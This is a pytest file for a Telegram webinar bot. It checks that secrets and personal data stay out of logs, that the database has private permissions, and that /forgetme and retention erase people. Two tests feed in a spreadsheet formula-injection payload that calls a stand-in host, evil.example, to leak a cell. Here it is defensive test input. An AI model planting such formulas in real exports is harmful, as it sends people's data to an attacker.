"""What must not leak: the token into logs, people's data into logs or spreadsheets, and
the database to other local users."""

from __future__ import annotations

import io
import logging
import os
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.app import BotApplication
from bot.clock import FrozenClock
from bot.config import Settings
from bot.db import SqliteDatabase, to_db
from bot.db.inbox import Arrival
from bot.devtools.emulator import BotApiEmulator
from bot.i18n import language_tag
from bot.log_privacy import REDACTED, RedactSecrets, protect_handlers
from bot.models import Profile
from bot.services.container import Services
from bot.services.exports import safe_cell
from bot.services.reminders import REMINDER, Job
from tests.conftest import chat_as
from tests.programme_files import programme, row
from tests.store import Store

TOKEN = "123456789:AAHk_secret-part-of-the-token-0123456789"


def test_the_token_never_reaches_a_log_line() -> None:
    """As python-telegram-bot words it at start-up, in a message and in a traceback."""
    stream = io.StringIO()
    logger = logging.getLogger("test.privacy")
    logger.propagate = False
    handler = logging.StreamHandler(stream)
    logger.addHandler(handler)
    protect_handlers([TOKEN], logger)
    try:
        logger.error("The token `%s` was rejected by the server.", TOKEN)
        try:
            raise RuntimeError(f"404 for https://api.telegram.org/{TOKEN}/getMe")
        except RuntimeError:
            logger.exception("start-up failed")
        secret_half = TOKEN.split(":", 1)[1]
        logger.warning("half of it: %s", secret_half)
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert TOKEN not in written and secret_half not in written
    assert written.count(REDACTED) == 3 and "RuntimeError" in written


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("en", "en"),
        ("pt-br", "pt-br"),
        ("zh-hans", "zh-hans"),
        ('=HYPERLINK("https://evil.example/"&C2,"x")', None),
        ("en\n", None),
        ("x" * 40, None),
        (None, None),
    ],
)
def test_a_client_language_is_kept_only_when_it_is_a_language_tag(
    raw: str | None, kept: str | None
) -> None:
    assert language_tag(raw) == kept


def test_exported_cells_never_run_as_formulas() -> None:
    for value in ('=HYPERLINK("https://evil.example/"&C2,"x")', "+1", "-1", "@SUM(A1)"):
        assert safe_cell(value).startswith("'")


async def test_the_database_is_readable_by_its_user_only(tmp_path: Path) -> None:
    """Created under the bot's umask, and tightened when an older version left it open."""
    path = tmp_path / "data" / "bot.sqlite3"
    path.parent.mkdir()
    path.touch()
    path.chmod(0o644)
    db = await SqliteDatabase.open(path)
    await db.write(lambda u: u.audit.record(1, "test", "x", datetime.now(UTC)))
    await db.close()
    for file in path.parent.iterdir():
        assert stat.S_IMODE(file.stat().st_mode) & 0o077 == 0, file.name
    fresh = tmp_path / "new" / "bot.sqlite3"
    previous = os.umask(0o077)
    try:
        db = await SqliteDatabase.open(fresh)
        await db.close()
    finally:
        os.umask(previous)
    assert stat.S_IMODE(fresh.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


async def test_forgetme_leaves_nothing_that_names_the_person(
    services: Services,
    db: Store,
    clock: FrozenClock,
    app: BotApplication,
    emulator: BotApiEmulator,
) -> None:
    """After /forgetme, a byte search of the database file and its write-ahead log finds
    neither their name, email, username, comment nor their id in the other tables; the
    statistics keep anonymous counts."""
    start = clock.now() + timedelta(days=1)
    await services.programme.import_now(programme([row("flood", start)]), None)
    zanele = chat_as(
        app, emulator, id=987654321, first_name="Zanele", username="zanele_qx", language_code="en"
    )
    await zanele.settle(language="en")
    await services.profiles.save(
        zanele.user.id,
        Profile("Zanele Dlamini-Qwerty", "ZA", "Durban", email="zanele.unique@example.org"),
        "UTC",
    )
    await services.registrations.sign_up(zanele.user.id, "flood")
    event = await db.read(lambda u: u.events.by_code("flood"))
    assert event is not None
    uid, now = zanele.user.id, clock.now()
    await db.write(lambda u: u.attendance.record(event.event_id, uid, "code", now))
    await db.write(lambda u: u.attendance.save_rating(event.event_id, uid, 5, now))
    await db.write(lambda u: u.attendance.save_comment(event.event_id, uid, "XYZZY-practical", now))
    await db.write(lambda u: u.attendance.set_failures(uid, 1, now, None))
    await db.write(lambda u: u.audit.record(5001, "attendance", f"flood {uid} present", now))
    await services.reminders.fire(Job(REMINDER, event.event_id, 60, start - timedelta(hours=1)))
    assert await db.fetch_one("SELECT COUNT(*) FROM deliveries WHERE user_id = ?", (uid,)) == (1,)
    # Two updates of hers in the inbox: one handled (only its id is kept), one not yet.
    handled = '{"message": {"text": "Durban, XYZZY-handled", "from": {"first_name": "Zanele"}}}'
    waiting = '{"message": {"text": "XYZZY-waiting", "from": {"first_name": "Zanele"}}}'
    arrivals = [Arrival(900_001, uid, handled), Arrival(900_002, uid, waiting)]
    await db.write(lambda u: u.inbox.store(arrivals, now))
    await db.write(lambda u: u.inbox.finish([900_001], now))
    assert await db.fetch_all("SELECT payload, user_id FROM inbox WHERE update_id = 900001") == [
        ("", None)
    ]

    await zanele.send("/forgetme")
    await zanele.press_label("Yes, delete my data")

    for table, column in [
        ("deliveries", "user_id"),
        ("checkin_failures", "user_id"),
        ("attendance", "user_id"),
        ("feedback", "user_id"),
        ("users", "user_id"),
        ("inbox", "user_id"),
    ]:
        assert await db.fetch_all(f"SELECT * FROM {table} WHERE {column} = ?", (uid,)) == [], table
    [detail] = await db.fetch_one("SELECT detail FROM admin_audit WHERE action = 'attendance'") or [
        ""
    ]
    assert str(uid) not in detail
    path = db.path
    if path is not None:  # SQLite: every byte of the file and its side files
        stored = b"".join(
            file.read_bytes() for file in path.parent.iterdir() if file.name.startswith(path.name)
        )
    else:  # PostgreSQL: every row of every table (its files are the server's)
        tables = await db.fetch_all(
            "SELECT tablename FROM pg_tables WHERE schemaname = current_schema()"
        )
        stored = repr(
            [await db.fetch_all(f"SELECT * FROM {table}") for (table,) in tables]
        ).encode()
    for trace in (
        "Zanele",
        "Dlamini-Qwerty",
        "zanele.unique@example.org",
        "zanele_qx",
        "XYZZY-practical",
        "XYZZY-handled",
        "XYZZY-waiting",
        "Durban",
    ):
        assert trace.encode() not in stored, trace
    counts = await db.fetch_all("SELECT status, count FROM forgotten_registrations ORDER BY 1")
    assert [tuple(r) for r in counts] == [("attended", 1), ("confirmed", 1)]


async def test_personal_data_goes_after_the_retention_period(
    services: Services, db: Store, clock: FrozenClock
) -> None:
    """RETENTION_DAYS after their last session (730 by default) a participant is erased, as
    by /forgetme; someone with a session still to come, or seen since, or an organizer, stays."""
    now = clock.now()
    long_ago, lately = now - timedelta(days=800), now - timedelta(days=30)
    old = to_db(long_ago)
    await db.execute(
        "INSERT INTO events (code, topic, starts_at, duration_minutes, language, join_url,"
        " title, description, created_at, updated_at)"
        " VALUES ('old', 'other', ?, 60, 'en', '', 'Old', '', ?, ?)",
        (old, old, old),
    )
    await services.programme.import_now(programme([row("soon", now + timedelta(days=3))]), None)
    people = {
        1: ("Old Timer", long_ago),
        2: ("Still Coming", long_ago),
        3: ("Seen Lately", lately),
        4: ("Never Signed", long_ago),
        5001: ("Organizer", long_ago),
    }
    for user_id, (name, seen) in people.items():
        await db.execute(
            "INSERT INTO users (user_id, first_name, full_name, created_at, last_seen_at)"
            " VALUES (?, ?, ?, ?, ?)",
            (user_id, name.split()[0], name, old, to_db(seen)),
        )
    for user_id, code in [(1, "old"), (2, "old"), (2, "soon"), (3, "old"), (5001, "old")]:
        await db.execute(
            "INSERT INTO registrations (event_id, user_id, status, created_at, updated_at, seq)"
            " SELECT event_id, ?, 'confirmed', ?, ?, ? FROM events WHERE code = ?",
            (user_id, old, old, user_id * 10 + len(code), code),
        )
    erased = await services.registrations.forget_expired(
        services.settings.retention, frozenset({5001})
    )
    assert services.settings.retention == timedelta(days=730)
    remaining = {r[0] for r in await db.fetch_all("SELECT user_id FROM users")}
    assert (erased, remaining) == (2, {2, 3, 5001})
    counts = await db.fetch_all(
        "SELECT e.code, f.count FROM forgotten_registrations f JOIN events e USING (event_id)"
    )
    assert [tuple(r) for r in counts] == [("old", 1)]  # the statistics keep the count


def test_drawing_a_certificate_logs_nothing_of_its_holder(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """fontTools logs at INFO the glyphs kept for each PDF (the letters of the holder's
    name): as the bot configures logging, a certificate drawn at INFO leaves no such line."""
    from bot.__main__ import configure_logging
    from bot.certificate_content import CertificateContent
    from bot.certificate_pdf import load_fonts, render_certificate

    configure_logging("INFO")
    content = CertificateContent(
        language="en",
        heading="Certificate of attendance",
        intro="This certifies that",
        holder="Zyxwq Jkvbn",
        achievement="attended the session",
        title="Urban floods",
        details=("1 March 2027",),
        programme="Programme",
        signatories=(),
        code_line="Certificate 7KQ2-M9XD",
        verify_caption="Scan to check this certificate",
        verify_url="https://t.me/x_bot?start=verify-7KQ2M9XD",
    )
    with caplog.at_level(logging.INFO):
        render_certificate(content, load_fonts())
    assert not [r for r in caplog.records if r.name.startswith(("fontTools", "fpdf"))]
    assert "Zyxwq" not in caplog.text and "'Z'" not in caplog.text


def test_the_database_password_never_reaches_the_log(caplog: pytest.LogCaptureFixture) -> None:
    settings = Settings(
        bot_token="123456:" + "S" * 30,
        database_url="postgresql://bot:Pa55-w0rd-XYZ@db.example.org:5432/webinars",
    )
    caplog.handler.addFilter(RedactSecrets(settings.secrets()))
    logging.getLogger("test.privacy").error("could not connect to %s", settings.database_url)
    assert "Pa55-w0rd-XYZ" not in caplog.text
    assert "db.example.org" in caplog.text
